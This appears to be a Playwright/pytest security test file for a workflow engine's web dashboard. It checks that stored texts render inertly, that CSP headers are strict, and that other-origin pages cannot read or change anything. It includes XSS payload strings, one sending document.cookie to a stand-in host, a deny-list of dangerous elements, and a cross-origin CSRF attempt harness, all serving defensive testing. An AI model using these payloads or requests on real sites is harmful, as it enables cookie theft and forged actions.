"""Whatever texts are stored, the page shows them as texts; and pages of others cannot do anything here."""

from __future__ import annotations

import asyncio
import contextlib
from collections.abc import AsyncIterator
from pathlib import Path

import httpx
import pytest
from playwright.async_api import BrowserContext, Response, expect

import durable

from .conftest import PATIENCE_MS, Site


pytestmark = [pytest.mark.asyncio(loop_scope="session"), pytest.mark.slow]

_SCRIPTS = (
    "alert(1)",
    "window.hit=1",
    "fetch('//elsewhere.example/'+document.cookie)",
    "open('//elsewhere.example/')",
    "(new/**/Image).src='//elsewhere.example/i'",
)
_TEMPLATES = Path(__file__).with_name("payloads.txt").read_text().splitlines()
PAYLOADS = [
    template.replace("@", script) for template in _TEMPLATES for script in _SCRIPTS
]
#: Elements that the page never makes in what it shows.
_FOREIGN = (
    "script,iframe,object,embed,img,svg,math,video,audio,source,marquee,link,style,meta,base,template,body body,"
    "[onload],[onerror],[onfocus],[onclick],[onmouseover],[ontoggle],[autofocus],[srcdoc],[formaction]"
)
_OPEN_ALL = "document.querySelectorAll('details').forEach((one) => one.open = true)"
#: All of a table's pages, one after the other, opened.
_LEAF_THROUGH = """
async () => {
  const texts = [];
  const main = document.querySelector("main");
  const until = async (is) => { while (!is()) await new Promise((go) => setTimeout(go, 5)); };
  for (;;) {
    document.querySelectorAll("details").forEach((one) => { one.open = true; });
    texts.push(main.innerText);
    const older = [...main.querySelectorAll(".pager a")].find((one) => one.textContent === "Older");
    if (!older) return texts.join("\\n");
    const key = main.querySelector("tbody tr").dataset.key;
    older.click();
    await until(() => main.querySelector("tbody tr")?.dataset.key !== key);
  }
}
"""
#: Addresses that hold a text, one after the other; those that were not shown as they are.
_VISIT = """
async (payloads) => {
  const wrong = [];
  for (const payload of payloads) {
    location.hash = `#/events?${new URLSearchParams({ name: payload })}`;
    for (let tries = 0; document.querySelector(".tools strong")?.textContent !== payload; tries += 1) {
      if (tries > 1000) { wrong.push(payload); break; }
      await new Promise((go) => setTimeout(go, 5));
    }
  }
  return wrong;
}
"""


async def test_there_are_250_of_them() -> None:
    assert len(set(PAYLOADS)) == len(PAYLOADS) == 250


async def test_the_texts_do_harm_where_they_are_let(context: BrowserContext) -> None:
    """The control: written into a page without a policy, they execute."""
    page = await context.new_page()
    await page.route(
        "**/*", lambda route: route.fulfill(body="<p>", content_type="text/html")
    )
    await page.goto("http://nowhere.example/")
    hits = [text for text in PAYLOADS if "window.hit" in text]
    count = await page.evaluate(
        """async (texts) => {
          let count = 0;
          for (const text of texts) {
            document.body.innerHTML = text;
            await new Promise((go) => setTimeout(go, 10));
            count += window.hit === 1;
            window.hit = 0;
          }
          return count;
        }""",
        hits,
    )
    assert count >= 5


async def test_texts_of_others_are_shown_and_nothing_else(site: Site) -> None:
    events = [
        durable.Event(name=text, data={text: text, "list": [{text: text}]})
        for text in PAYLOADS
    ]
    await site.engine.send(*events)
    half = len(PAYLOADS) // 2
    groups = [*[[text] for text in PAYLOADS], PAYLOADS[:half], PAYLOADS[half:]]
    sent = [
        await site.send("mirror", texts=texts, fails=len(texts) == 1)
        for texts in groups
    ]
    runs = [(await site.ended(event)).id for event in sent]
    await _look(site, "events", PAYLOADS)
    await _look(site, "runs", [text[:60] for text in PAYLOADS])
    for run, texts in (
        (runs[-1], PAYLOADS[half:]),
        (runs[-2], PAYLOADS[:half]),
        *(
            (runs[number], PAYLOADS[number : number + 1])
            for number in range(0, 250, 50)
        ),
    ):
        await _look(site, f"runs/{run}", texts)
    await _look(site, "functions", [])
    assert await site.page.evaluate(_VISIT, PAYLOADS) == []
    assert await site.page.evaluate("window.hit") is None
    assert await site.forbidden() == []
    assert site.trouble == []


async def _look(site: Site, path: str, texts: list[str]) -> None:
    await site.page.goto("about:blank")
    await site.open(path)
    await expect(site.page.locator("h1")).to_be_visible()
    shown = await site.page.evaluate(_LEAF_THROUGH)
    said = shown.replace("\\\\", "\\").replace('\\"', '"')  # as JSON writes them
    missing = [text for text in texts if text not in said]
    assert missing == [], path
    assert await site.page.locator("main").locator(_FOREIGN).count() == 0
    assert await site.forbidden() == []


async def test_a_text_that_got_through_would_not_be_executed(site: Site) -> None:
    """The policy itself: neither markup nor code out of texts, nor anything from elsewhere."""
    site.page.remove_listener("console", site.told)  # it tells of what is forbidden
    await site.open("functions")
    done = await site.page.evaluate("""() => {
      const attempts = [
        () => { document.body.innerHTML = "<img src=x onerror='window.hit=1'>"; },
        () => { document.body.setAttribute("onclick", "window.hit = 1"); document.body.click(); if (!window.hit) throw 0; },
        () => { document.createElement("script").text = "window.hit = 1"; },
        () => { trustedTypes.createPolicy("default", { createHTML: (text) => text }); },
      ];
      return attempts.filter((attempt) => { try { attempt(); return true; } catch { return false; } }).map(String);
    }""")
    assert done == []
    assert await site.page.evaluate("window.hit") is None
    refused = await site.page.evaluate(
        "fetch('http://elsewhere.example/').then(() => false, () => true)"
    )
    assert refused
    assert any("connect-src" in one for one in await site.forbidden())
    site.trouble.clear()


async def test_headers_are_strict(site: Site) -> None:
    async with httpx.AsyncClient(base_url=site.url) as http:
        for path in ("/", "/ui/app.js", "/ui/style.css", "/ui/icon.svg"):
            headers = (await http.get(path)).headers
            policy = headers["content-security-policy"].split("; ")
            for part in (
                "default-src 'self'",
                "script-src 'self'",
                "object-src 'none'",
                "frame-ancestors 'none'",
                "base-uri 'none'",
                "require-trusted-types-for 'script'",
            ):
                assert part in policy
            assert headers["x-content-type-options"] == "nosniff"
            assert headers["referrer-policy"] == "no-referrer"
        typed = await http.post(
            "/ui/api/events",
            content='{"name": "a"}',
            headers={"Content-Type": "text/plain"},
        )
    assert typed.status_code == 415


#: What a page of another origin can try; each says whether it was given anything.
_TRY_ALL = """
async ([url, run]) => {
  const read = async (path, options) => (await fetch(url + path, options)).text();
  const event = JSON.stringify({ name: "shop/order.placed", data: {} });
  const kinds = ["text/plain", "application/x-www-form-urlencoded", "application/json"];
  const loads = (tag, path) => () => new Promise((good, bad) => {
    const element = document.body.appendChild(document.createElement(tag));
    Object.assign(element, { onload: good, onerror: bad, src: url + path });
  });
  const hears = (source) => new Promise((good, bad) => {
    Object.assign(source, { onopen: good, onmessage: good, onerror: bad });
  });
  const attempts = [
    ...["/", "/ui/api/runs", `/ui/api/runs/${run}`, "/ui/api/events", "/ui/api/functions", "/v1/events", "/dev", "/metrics"]
      .map((path) => () => read(path)),
    ...["/e/x", "/ui/api/events", `/ui/api/runs/${run}/rerun`, "/invoke/fulfil", "/v1/signals", "/fn/register", "/v1/realtime/token",
      "/v1/realtime/publish?channel=c&topic=t"].flatMap((path) =>
      kinds.flatMap((kind) => ["cors", "no-cors"].map((mode) => async () => {
        const headers = { "content-type": kind };
        const answer = await fetch(url + path, { method: "POST", mode, headers, body: event });
        if (answer.type === "opaque") throw new Error("nothing is told");
      }))),
    () => read(`/v1/runs/${run}`, { method: "DELETE" }),
    () => read(`/v0/runs/${run}`, { method: "DELETE" }),
    () => read("/e/x", { method: "PUT", body: event }),
    ...["/ui/api/runs", "/ui/api/events", "/v1/realtime/sse?token=x"].map((path) => () => hears(new EventSource(url + path))),
    ...["/ui/api/runs", "/v1/realtime/connect?token=x"].map((path) => () => hears(new WebSocket(url.replace("http", "ws") + path))),
    loads("script", "/ui/api/events"),
    loads("script", "/ui/words.js"),
    loads("img", "/ui/icon.svg"),
  ];
  let forms = 0;
  const framed = [];
  navigator.sendBeacon(`${url}/e/x`, event);
  navigator.sendBeacon(`${url}/e/x`, new URLSearchParams({ name: "shop/order.placed" }));
  for (const [path, kind] of [["/e/x", "text/plain"], ["/e/x", "application/x-www-form-urlencoded"], ["/ui/api/events", "text/plain"]]) {
    const frame = Object.assign(document.createElement("iframe"), { name: `frame${forms += 1}` });
    document.body.append(frame);
    const form = Object.assign(document.createElement("form"), { method: "post", action: url + path, enctype: kind, target: frame.name });
    form.append(Object.assign(document.createElement("input"), { name: "name", value: "shop/order.placed" }));
    document.body.append(form);
    framed.push(new Promise((go) => { frame.onload = go; }));
    form.submit();
  }
  const late = () => new Promise((_, bad) => setTimeout(bad, 10000));
  const tried = attempts.map((attempt) =>
    Promise.race([attempt(), late()]).then(() => attempt.toString(), () => null));
  await Promise.race([Promise.all(framed), late().catch(() => null)]);
  return [attempts.length, (await Promise.all(tried)).filter((one) => one !== null)];
}
"""


#: Forms, fetches and beacons reach the server, and are refused.
_POSTS = {(kind, 403) for kind in ("document", "fetch", "ping")}


@pytest.mark.parametrize("host", ["127.0.0.1", "localhost"])
async def test_a_page_of_another_origin_does_nothing_here(
    site: Site, context: BrowserContext, host: str
) -> None:
    """The same machine at another port, and another name: neither reads anything, nor sends, nor cancels."""
    event = await site.send("shop/refund.asked", customer="c1")
    run = await site.run_of(event)
    async with _other_site() as port:
        page = await context.new_page()
        posts: set[tuple[str, int]] = set()
        all_kinds = asyncio.Event()

        def hear(said: Response) -> None:
            if said.request.method == "POST":
                posts.add((said.request.resource_type, said.status))
                if len(posts) == len(_POSTS):
                    all_kinds.set()

        page.on("response", hear)
        await page.goto(f"http://{host}:{port}/")
        count, succeeded = await page.evaluate(_TRY_ALL, [site.url, run.id])
        await page.evaluate(
            "(url) => new Promise((go) => document.body.appendChild("
            "Object.assign(document.createElement('iframe'), {src: url, onload: go, id: 'framed'})))",
            site.url,
        )
        framed = page.frame_locator("#framed").locator("main")
        assert await framed.count() == 0
        await asyncio.wait_for(all_kinds.wait(), PATIENCE_MS / 1000)
        await page.close()
    assert count > 40
    assert succeeded == []
    assert posts == _POSTS
    assert [one.id for one in await site.engine.events.list()] == [event]
    assert [one.id for one in await site.engine.runs.list()] == [run.id]
    assert (await site.engine.runs.get(run.id)).ended_at is None


@contextlib.asynccontextmanager
async def _other_site() -> AsyncIterator[int]:
    page = b"<!doctype html><title>another</title><body>"

    async def answer(
        reader: asyncio.StreamReader, writer: asyncio.StreamWriter
    ) -> None:
        with contextlib.suppress(asyncio.IncompleteReadError, ConnectionError):
            await reader.readuntil(b"\r\n\r\n")
            head = f"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: {len(page)}\r\n"
            writer.write(f"{head}Connection: close\r\n\r\n".encode() + page)
            await writer.drain()
        writer.close()

    server = await asyncio.start_server(answer, "127.0.0.1", 0)
    async with server:
        yield server.sockets[0].getsockname()[1]
